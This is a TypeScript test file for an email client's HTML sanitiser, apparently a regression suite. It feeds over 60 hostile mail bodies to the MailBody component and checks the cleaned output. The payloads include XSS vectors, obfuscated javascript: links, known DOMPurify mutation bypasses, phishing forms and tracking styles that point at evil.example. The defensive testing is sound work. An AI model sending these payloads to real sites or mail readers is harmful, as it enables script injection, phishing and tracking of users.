import { render, screen } from '@testing-library/react';
import { MailBody } from './mail-body';

// A received mail's body is HTML written by another organisation's client, and MailBody puts it into
// the page through the sanitiser (lib/safe-html.ts). This corpus of hostile bodies pins, on the DOM
// the reader actually gets, that nothing in it can run, restyle the app, or open a window with access
// back to it, and that ordinary formatting still reads as written. A change of sanitiser config or
// DOMPurify version that lets one of these through fails here, payload by payload.

declare global {
  interface Window {
    __xss?: number;
  }
}

afterEach(() => {
  delete window.__xss;
});

// What the sanitiser keeps (lib/safe-html.ts): anything else on an element is a leak.
const KEPT_ATTRIBUTES = new Set(['href', 'title', 'colspan', 'rowspan', 'target', 'rel']);
const EXECUTABLE_TAGS =
  'script, iframe, frame, frameset, object, embed, applet, base, meta, link, form, input, button, ' +
  'textarea, select, option, svg, math, style, img, video, audio, source, template, noscript, details';
const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'srcdoc', 'background'];
const DANGEROUS_SCHEME = /^(?:javascript|vbscript|data):/;

/** Whitespace and control characters, which a browser skips when it reads a URL's scheme. */
const isSkippedInScheme = (char: string) => {
  const code = char.charCodeAt(0);
  return char.trim() === '' || code <= 0x1f || (code >= 0x7f && code <= 0x9f);
};
/** A URL's value as a browser reads its scheme: in lower case, with those characters left out. */
const schemeOf = (value: string) =>
  Array.from(value.toLowerCase())
    .filter((char) => !isSkippedInScheme(char))
    .join('');

function renderBody(html: string) {
  render(<MailBody html={html} />);
  return screen.getByTestId('mail-body');
}

/** The rules every body must keep, whatever was sent. */
function expectHarmless(body: HTMLElement) {
  expect(body.querySelectorAll(EXECUTABLE_TAGS)).toHaveLength(0);
  for (const element of body.querySelectorAll('*')) {
    for (const { name, value } of Array.from(element.attributes)) {
      expect(name, `<${element.localName} ${name}>`).not.toMatch(/^on/i);
      expect(KEPT_ATTRIBUTES.has(name), `<${element.localName} ${name}="${value}">`).toBe(true);
      if (URL_ATTRIBUTES.includes(name)) expect(schemeOf(value)).not.toMatch(DANGEROUS_SCHEME);
    }
  }
  for (const link of body.querySelectorAll('a[href]')) {
    expect(link.getAttribute('href')).toMatch(/^(?:https?:|mailto:)/i);
    expect(link).toHaveAttribute('target', '_blank');
    const rel = (link.getAttribute('rel') ?? '').split(/\s+/);
    expect(rel).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
  }
}

const X = 'window.__xss=1';
const NEW_TAB = 'target="_blank" rel="noopener noreferrer nofollow"';

// [what it tries, body sent, innerHTML the reader gets]
const hostile: [string, string, string][] = [
  // Scripts and event handlers
  ['script element', `<script>${X}</script><p>after</p>`, '<p>after</p>'],
  ['script with src, upper case', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>ok</p>', '<p>ok</p>'],
  [
    'script split around a nested script',
    `<scr<script>ipt>${X}</scr</script>ipt>`,
    'ipt&gt;window.__xss=1ipt&gt;',
  ],
  ['img onerror', `<img src=x onerror="${X}">`, ''],
  ['img ONERROR in upper case', `<IMG SRC=x ONERROR="${X}">`, ''],
  ['img with slashes for spaces', `<img/src=x/onerror=${X}>`, ''],
  ['body onload', `<body onload="${X}"><p>hi</p>`, '<p>hi</p>'],
  ['svg onload', `<svg onload="${X}"></svg><p>hi</p>`, '<p>hi</p>'],
  ['script inside svg', `<svg><script>${X}</script></svg>`, ''],
  ['details ontoggle', `<details open ontoggle="${X}"><summary>s</summary></details>`, 's'],
  ['onclick and onmouseover on a paragraph', `<p onclick="${X}" onmouseover="${X}">text</p>`, '<p>text</p>'],
  ['handler after a slash', `<div/onmouseover='${X}'>hover</div>`, '<div>hover</div>'],
  ['video source onerror', `<video><source onerror="${X}"></video>`, ''],
  ['audio onerror', `<audio src=x onerror="${X}"></audio>`, ''],
  ['marquee onstart', `<marquee onstart="${X}">m</marquee>`, 'm'],
  [
    'onclick on an allowed link',
    `<a href="https://ok.example/" onclick="${X}">ok</a>`,
    `<a href="https://ok.example/" ${NEW_TAB}>ok</a>`,
  ],
  ['noscript title breaking out', `<noscript><p title="</noscript><img src=x onerror=${X}>">`, '<p></p>'],
  ['script inside template', `<template><script>${X}</script></template><p>t</p>`, '<p>t</p>'],
  ['payload inside a comment', `<p>c<!--<img src=x onerror=${X}>--></p>`, '<p>c</p>'],
  // Links with a script scheme
  ['javascript: link', `<a href="javascript:${X}">x</a>`, '<a>x</a>'],
  ['JaVaScRiPt: in mixed case', `<a href="JaVaScRiPt:${X}">x</a>`, '<a>x</a>'],
  ['javascript: after leading spaces', `<a href="   javascript:${X}">x</a>`, '<a>x</a>'],
  ['javascript: with a tab inside', `<a href="java\tscript:${X}">x</a>`, '<a>x</a>'],
  ['javascript: with a newline inside', `<a href="java\nscript:${X}">x</a>`, '<a>x</a>'],
  ['javascript: with an entity tab', `<a href="java&#x09;script:${X}">x</a>`, '<a>x</a>'],
  ['javascript: with &NewLine;', `<a href="java&NewLine;script:${X}">x</a>`, '<a>x</a>'],
  ['&#106;avascript: decimal entity', `<a href="&#106;avascript:${X}">x</a>`, '<a>x</a>'],
  ['&#x6A;avascript: hex entity', `<a href="&#x6A;avascript:${X}">x</a>`, '<a>x</a>'],
  [
    'javascript: all zero-padded decimal entities',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    '<a>x</a>',
  ],
  ['javascript&colon; named entity', `<a href="javascript&colon;${X}">x</a>`, '<a>x</a>'],
  ['javascript: after a control character', `<a href="\u0001javascript:${X}">x</a>`, '<a>x</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>', '<a>x</a>'],
  ['VBSCRIPT: in upper case', '<a href=" VBSCRIPT:msgbox(1)">x</a>', '<a>x</a>'],
  ['data:text/html link', `<a href="data:text/html,<script>${X}</script>">x</a>`, '<a>x</a>'],
  [
    'data: base64 link',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a>x</a>',
  ],
  ['DATA: with a leading tab', `<a href="\tDATA:text/html,<script>${X}</script>">x</a>`, '<a>x</a>'],
  ['protocol-relative link', '<a href="//evil.example/">x</a>', '<a>x</a>'],
  ['relative link', '<a href="/email/compose">x</a>', '<a>x</a>'],
  // svg and MathML namespace confusion
  ['math mtext table mglyph style', `<math><mtext><table><mglyph><style><img src=x onerror=${X}>`, ''],
  ['svg p style', `<svg><p><style><img src=x onerror=${X}>`, '<p></p>'],
  [
    'svg closing p before a style',
    `<svg></p><style><a id="</style><img src=1 onerror=${X}>">`,
    '<p></p>"&gt;',
  ],
  [
    'form math mtext mglyph (DOMPurify 2.0.0 bypass)',
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${X}>`,
    '',
  ],
  [
    'math mtext h1 a h6 mglyph svg style',
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=${X}>"></style></h1>`,
    '',
  ],
  ['math xlink:href javascript:', `<math><mi xlink:href="javascript:${X}">click</mi></math>`, ''],
  ['svg a xlink:href javascript:', `<svg><a xlink:href="javascript:${X}"><text>click</text></a></svg>`, ''],
  ['svg animate onbegin', `<svg><animate onbegin="${X}" attributeName="x" dur="1s"></animate></svg>`, ''],
  [
    'svg set turning href into javascript:',
    `<svg><a><set attributeName="href" to="javascript:${X}"></set><text>y</text></a></svg>`,
    '',
  ],
  [
    'math maction xlink:href',
    `<math><maction actiontype="statusline" xlink:href="javascript:${X}">m</maction></math>`,
    '',
  ],
  // Styling
  ['style attribute with url(javascript:)', `<p style="background:url(javascript:${X})">s</p>`, '<p>s</p>'],
  ['style attribute with expression()', '<div style="width: expression(alert(1))">s</div>', '<div>s</div>'],
  [
    'style attribute with a tracking url()',
    '<span style="background-image:url(https://evil.example/pixel)">s</span>',
    '<span>s</span>',
  ],
  [
    'style element with url()',
    '<style>body{background:url("https://evil.example/track")}</style><p>s</p>',
    '<p>s</p>',
  ],
  ['style element with @import', "<style>@import 'https://evil.example/x.css';</style><p>s</p>", '<p>s</p>'],
  ['style element with expression()', '<style>p{width:expression(alert(1))}</style><p>s</p>', '<p>s</p>'],
  ['stylesheet link', '<link rel="stylesheet" href="https://evil.example/x.css"><p>s</p>', '<p>s</p>'],
  ['data-* attributes', '<p data-track="1" data-testid="mail-body">d</p>', '<p>d</p>'],
  ['class covering the app', '<div class="fixed inset-0 z-50">c</div>', '<div>c</div>'],
  ['id clobbering a global', '<a id="location" name="location">c</a>', '<a>c</a>'],
  // Forms
  [
    'phishing form',
    '<form action="https://evil.example/phish"><input name="password" type="password"><button>Log in</button></form>',
    'Log in',
  ],
  ['textarea and select', '<textarea>t</textarea><select><option>o</option></select>', 'to'],
  ['button formaction javascript:', `<button formaction="javascript:${X}">b</button>`, 'b'],
  ['input type=image onerror', `<input type="image" src=x onerror="${X}">`, ''],
  ['isindex action javascript:', `<isindex action="javascript:${X}">`, ''],
  // Embedded documents and page-level tags
  ['iframe', '<iframe src="https://evil.example/"></iframe><p>i</p>', '<p>i</p>'],
  ['iframe srcdoc', `<iframe srcdoc="<script>${X}</script>"></iframe>`, ''],
  ['object data javascript:', `<object data="javascript:${X}"></object>`, ''],
  ['embed data:', `<embed src="data:text/html,<script>${X}</script>">`, ''],
  ['frameset', '<frameset><frame src="https://evil.example/"></frameset>', ''],
  [
    'base href',
    '<base href="https://evil.example/"><a href="https://ok.example/">ok</a>',
    `<a href="https://ok.example/" ${NEW_TAB}>ok</a>`,
  ],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:${X}"><p>m</p>`, '<p>m</p>'],
  // Links asking to stay in this tab or keep access to it
  [
    'target _self and rel opener',
    '<a href="https://ok.example/" target="_self" rel="opener">ok</a>',
    `<a href="https://ok.example/" ${NEW_TAB}>ok</a>`,
  ],
  [
    'mailto with target _top',
    '<a href="mailto:ops@ok.example" target="_top">mail</a>',
    `<a href="mailto:ops@ok.example" ${NEW_TAB}>mail</a>`,
  ],
];

describe('mail body against hostile HTML', () => {
  it('has at least 50 distinct payloads', () => {
    expect(new Set(hostile.map(([, html]) => html)).size).toBe(hostile.length);
    expect(hostile.length).toBeGreaterThanOrEqual(50);
  });

  it.each(hostile)('%s', (_name, html, remains) => {
    const body = renderBody(html);
    expectHarmless(body);
    expect(body.innerHTML).toBe(remains);
    // jsdom runs inline script and handlers (runScripts: 'dangerously'): nothing ran while sanitising.
    expect(window.__xss).toBeUndefined();
  });
});

describe('mail body keeps safe markup', () => {
  it('keeps paragraphs, bold and italic', () => {
    const body = renderBody(
      '<p>Salam, <b>sabah</b> <i>09:00</i>-da.</p><p><strong>Ünvan</strong> <em>Bakı</em></p>',
    );
    expectHarmless(body);
    const paragraphs = body.querySelectorAll('p');
    expect(paragraphs).toHaveLength(2);
    expect(paragraphs[0]).toHaveTextContent('Salam, sabah 09:00-da.');
    expect(body.querySelector('b')).toHaveTextContent('sabah');
    expect(body.querySelector('i')).toHaveTextContent('09:00');
    expect(body.querySelector('strong')).toHaveTextContent('Ünvan');
    expect(body.querySelector('em')).toHaveTextContent('Bakı');
  });

  it('keeps ordered and unordered lists', () => {
    const body = renderBody('<ol><li>Load</li><li>Ship</li></ol><ul><li>CMR</li><li>Invoice</li></ul>');
    expectHarmless(body);
    expect(Array.from(body.querySelectorAll('ol > li'), (li) => li.textContent)).toEqual(['Load', 'Ship']);
    expect(Array.from(body.querySelectorAll('ul > li'), (li) => li.textContent)).toEqual(['CMR', 'Invoice']);
  });

  it('keeps a table with its rows and cells', () => {
    const body = renderBody(
      '<table><thead><tr><th>Route</th><th>Rate</th></tr></thead>' +
        '<tbody><tr><td>Baku → Istanbul</td><td>2 400 USD</td></tr><tr><td>VAT</td><td>excluded</td></tr>' +
        '<tr><td colspan="2" rowspan="1">Total on request</td></tr></tbody></table>',
    );
    expectHarmless(body);
    const rows = body.querySelectorAll('table tr');
    expect(rows).toHaveLength(4);
    expect(Array.from(rows[0]!.querySelectorAll('th'), (th) => th.textContent)).toEqual(['Route', 'Rate']);
    expect(Array.from(rows[1]!.querySelectorAll('td'), (td) => td.textContent)).toEqual([
      'Baku → Istanbul',
      '2 400 USD',
    ]);
    expect(rows[2]!.querySelectorAll('td')).toHaveLength(2);
    // A merged cell keeps its span: the total stretches under both columns.
    expect(rows[3]!.querySelector('td')).toHaveAttribute('colspan', '2');
    expect(rows[3]!.querySelector('td')).toHaveAttribute('rowspan', '1');
  });

  it.each([
    ['https', 'https://example.az/rates?lane=1#top'],
    ['http', 'http://example.az/'],
    ['mailto', 'mailto:ops@example.az?subject=Rate'],
  ])('keeps a %s link with its text and href, opening in a new tab', (_scheme, href) => {
    const body = renderBody(`<p>See <a href="${href}" title="Rates">the rates</a>.</p>`);
    expectHarmless(body);
    const link = body.querySelector('a')!;
    expect(link).toHaveTextContent('the rates');
    expect(link).toHaveAttribute('href', href);
    expect(link).toHaveAttribute('title', 'Rates');
    expect(link).toHaveAttribute('target', '_blank');
  });
});
